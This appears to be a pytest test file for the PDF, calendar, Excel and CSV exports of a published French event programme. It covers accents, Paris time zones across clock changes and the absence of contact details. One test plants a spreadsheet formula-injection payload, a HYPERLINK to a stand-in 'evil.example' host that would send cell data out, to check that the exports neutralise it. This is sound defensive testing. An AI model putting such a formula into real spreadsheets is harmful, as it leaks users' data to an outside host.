"""Exports of a published programme, read back: the PDF's text (pypdf), the ICS (icalendar),
the .xlsx (pandas); French characters, Paris times, and no contact detail anywhere."""

import io
import zipfile
from datetime import date, datetime, time
from zoneinfo import ZoneInfo

import pandas as pd
import pytest
from icalendar import Calendar
from pypdf import PdfReader

from core.programme.exports import NNBSP, programme_csv, programme_ics, programme_pdf, programme_xlsx
from core.programme.public import latest_programme
from core.programme.publishing import publish_programme
from db.engine import read_only, unit_of_work
from db.models import ItemKind, Role
from tests.core.programme.builders import add, edition_number, item, make_edition_with_call, retained, set_status
from tests.factories import make_user

PARIS = ZoneInfo("Europe/Paris")


def published(day: date = date(2027, 3, 18)):
    lead = make_user(Role.PILOTE)
    edition_id, call_id = make_edition_with_call(day=day)
    retained(call_id, 5)
    add(lead, edition_id, item(ItemKind.WELCOME, "09:00", "09:30", title="Accueil café", room="Hall"))
    add(lead, edition_id, item(ItemKind.WORKSHOP, "09:30", "10:10", title="Atelier : marchés réservés",
                                speakers="Juriste de la commande publique", room="Salle Vilar 2"))
    add(lead, edition_id, item(ItemKind.PITCHES, "10:10", "10:40", call_id=call_id, title="Présentations express",
                                room="Grande salle"))
    with unit_of_work() as session:
        publish_programme(session, actor=lead, edition_id=edition_id, note="Première version", expected_number=0)
    with read_only() as session:
        return latest_programme(session, edition_number=edition_number(edition_id))


@pytest.fixture
def programme(sqlite_db):
    return published()


def test_pdf_text_holds_the_accented_names_and_french_typography(programme):
    reader = PdfReader(io.BytesIO(programme_pdf(programme)))
    assert reader.pages[0].mediabox.width == pytest.approx(595.28, abs=0.5)  # A4
    text = "\n".join(page.extract_text() for page in reader.pages)
    for name in ("Bâti'Insert 95", "Élan Propreté", "Œuvre Verte", "Chantier École Ça Bouge", "Recyclerie"):
        assert name in text
    assert f"«{NNBSP}Présentations express{NNBSP}»" in text
    assert "Jeudi 18 mars 2027" in text and "09 h 00 – 09 h 30" in text
    assert "@" not in text and "01 39" not in text


def test_ics_parses_back_with_paris_times_and_one_event_per_item(programme):
    calendar = Calendar.from_ical(programme_ics(programme))
    events = calendar.walk("VEVENT")
    assert [str(e["summary"]) for e in events] == ["Accueil café", "Atelier : marchés réservés",
                                                    "Présentations express"]
    start = events[0].decoded("dtstart")
    assert start == datetime(2027, 3, 18, 9, 0, tzinfo=PARIS)
    assert events[0]["dtstart"].params["TZID"] == "Europe/Paris"
    assert [tz["tzid"] for tz in calendar.walk("VTIMEZONE")] == ["Europe/Paris"]
    assert "Bâti'Insert 95" in str(events[2]["description"])
    assert "@structure" not in programme_ics(programme).decode()


def test_ics_on_the_day_the_clocks_go_forward_keeps_the_wall_clock_times(sqlite_db):
    programme = published(day=date(2027, 3, 28))  # summer time from 02:00 that morning
    event = Calendar.from_ical(programme_ics(programme)).walk("VEVENT")[0]
    assert event.decoded("dtstart").astimezone(PARIS).time() == time(9, 0)
    assert event.decoded("dtstart").utcoffset().total_seconds() == 2 * 3600


def test_xlsx_reads_back_with_pandas_one_row_per_item_and_pitch(programme):
    frame = pd.read_excel(io.BytesIO(programme_xlsx(programme)))
    assert len(frame) == 3 + 5
    assert list(frame["Structure"].dropna()) == ["Bâti'Insert 95", "Chantier École Ça Bouge", "Élan Propreté",
                                                 "Œuvre Verte", "Recyclerie « L'Étape »"]
    assert frame["Début"].iloc[0] == pd.Timestamp(2027, 3, 18, 9, 0)  # Paris wall-clock time
    assert not frame.astype(str).apply(lambda column: column.str.contains("@")).any().any()


def test_csv_is_for_french_excel(programme):
    text = programme_csv(programme).decode("utf-8-sig")
    assert text.splitlines()[0].startswith("Début;Fin;Élément;Titre")
    assert "18/03/2027 09:00:00" in text


def test_a_structure_named_like_a_formula_stays_text_in_the_csv_and_the_xlsx(sqlite_db):
    lead = make_user(Role.PILOTE)
    edition_id, call_id = make_edition_with_call()
    (candidacy_id,) = retained(call_id, 1)
    name = '=HYPERLINK("http://evil.example/?"&A1;"Cliquez")'
    set_status(candidacy_id, name=name, presenter_name="@SUM(1+1)")
    add(lead, edition_id, item(ItemKind.PITCHES, "10:00", "10:30", call_id=call_id, title="+Présentations"))
    with unit_of_work() as session:
        publish_programme(session, actor=lead, edition_id=edition_id, note="Version", expected_number=0)
    with read_only() as session:
        programme = latest_programme(session, edition_number=edition_number(edition_id))
    text = programme_csv(programme).decode("utf-8-sig")
    assert '"\'=HYPERLINK(""http://evil.example/?""&A1;""Cliquez"")"' in text and ";'@SUM(1+1);" in text
    assert ";'+Présentations;" in text
    cells = pd.read_excel(io.BytesIO(programme_xlsx(programme)), dtype=str)
    assert list(cells["Structure"].dropna()) == ["'" + name]
    with zipfile.ZipFile(io.BytesIO(programme_xlsx(programme))) as workbook:
        assert "<f>" not in workbook.read("xl/worksheets/sheet1.xml").decode()  # no formula cell at all


def test_ics_on_the_day_the_clocks_go_back_is_right_by_its_own_vtimezone(sqlite_db):
    # Calendar apps read the file's VTIMEZONE, not their own zone rules: it must place 09:00 at 08:00 UTC.
    programme = published(day=date(2027, 10, 31))  # winter time from 03:00 that morning
    calendar = Calendar.from_ical(programme_ics(programme))
    event = calendar.walk("VEVENT")[0]
    assert event["dtstart"].to_ical() == b"20271031T090000" and event["dtstart"].params["TZID"] == "Europe/Paris"
    zone = calendar.walk("VTIMEZONE")[0].to_tz()
    assert zone.utcoffset(datetime(2027, 10, 31, 9, 0)).total_seconds() == 3600
    assert zone.utcoffset(datetime(2027, 10, 30, 9, 0)).total_seconds() == 2 * 3600


def test_pdf_of_an_item_taller_than_a_page_is_still_made_cut_with_an_ellipsis(sqlite_db):
    # A timetable row cannot break across pages (fpdf2): a long list of lines made the whole PDF fail.
    lead = make_user(Role.PILOTE)
    edition_id, _call_id = make_edition_with_call()
    lines = "\n".join(f"Participant n° {n}" for n in range(1, 100))
    add(lead, edition_id, item(ItemKind.WORKSHOP, "09:00", "10:00", title="Atelier très détaillé",
                               speakers="\n".join(f"Intervenante {n}" for n in range(1, 25)), description=lines))
    add(lead, edition_id, item(ItemKind.CLOSING, "12:00", "12:30", title="Clôture"))
    with unit_of_work() as session:
        publish_programme(session, actor=lead, edition_id=edition_id, note="Version", expected_number=0)
    with read_only() as session:
        programme = latest_programme(session, edition_number=edition_number(edition_id))
    text = "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(programme_pdf(programme))).pages)
    assert "Atelier très détaillé" in text and "Intervenante 1\n" in text and "…" in text
    assert "Participant n° 99" not in text and "Clôture" in text
